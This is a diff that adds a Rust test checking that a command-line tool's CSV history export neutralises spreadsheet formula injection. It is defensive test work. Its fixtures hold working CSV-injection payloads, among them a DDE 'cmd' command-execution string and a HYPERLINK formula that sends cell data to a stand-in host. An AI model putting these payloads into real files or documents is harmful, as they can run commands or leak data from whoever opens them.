@@ -214,3 +214,53 @@ fn text_from_an_earlier_history_never_reaches_the_terminal_raw() {
     let report = stdout(&sb.run(&["history", "report"]));
     assert_clean("report", &report);
 }
+
+#[test]
+fn csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised() {
+    // An imported history is anyone's text: a formula in a field must reach the CSV as
+    // text, not as something a spreadsheet evaluates.
+    let sb = Sandbox::new();
+    let mut r = record("=cmd|' /C calc'!A0", 1, Status::Completed);
+    r.routine_name = "=HYPERLINK(\"http://example.com/?\"&A1,\"click\")".into();
+    r.routine_id = "+1+1".into();
+    r.entries[0].region = "@SUM(A1:A9)".into();
+    r.entries[0].zone = Some("-2+3".into());
+    r.entries[0].exercise_id = "quad, \"release\"".into();
+    let file = sb.write(
+        "evil.json",
+        &serde_json::to_string(&vec![&r]).unwrap_or_default(),
+    );
+    let out = sb.run(&["history", "import", file.to_str().unwrap_or_default()]);
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+
+    let text = stdout(&sb.run(&["history", "--csv"]));
+    let mut reader = csv::Reader::from_reader(text.as_bytes());
+    let header = reader.headers().unwrap_or_else(|e| panic!("{e}")).clone();
+    let rows: Vec<csv::StringRecord> = reader
+        .records()
+        .map(|r| r.unwrap_or_else(|e| panic!("{e}")))
+        .collect();
+    assert_eq!(rows.len(), 1, "{text}");
+    let cell = |name: &str| {
+        let i = header
+            .iter()
+            .position(|h| h == name)
+            .unwrap_or_else(|| panic!("{name}"));
+        rows[0][i].to_string()
+    };
+    assert_eq!(cell("session_id"), "'=cmd|' /C calc'!A0");
+    assert_eq!(
+        cell("routine_name"),
+        "'=HYPERLINK(\"http://example.com/?\"&A1,\"click\")"
+    );
+    assert_eq!(cell("routine_id"), "'+1+1");
+    assert_eq!(cell("region"), "'@SUM(A1:A9)");
+    assert_eq!(cell("zone"), "'-2+3");
+    // Not a formula: left alone, quoted by the CSV rules.
+    assert_eq!(cell("exercise_id"), "quad, \"release\"");
+    assert!(text.contains("\"quad, \"\"release\"\"\""), "{text}");
+    // No cell of the output starts a formula.
+    for (name, value) in header.iter().zip(rows[0].iter()) {
+        assert!(!value.starts_with(['=', '+', '-', '@']), "{name} = {value}");
+    }
+}
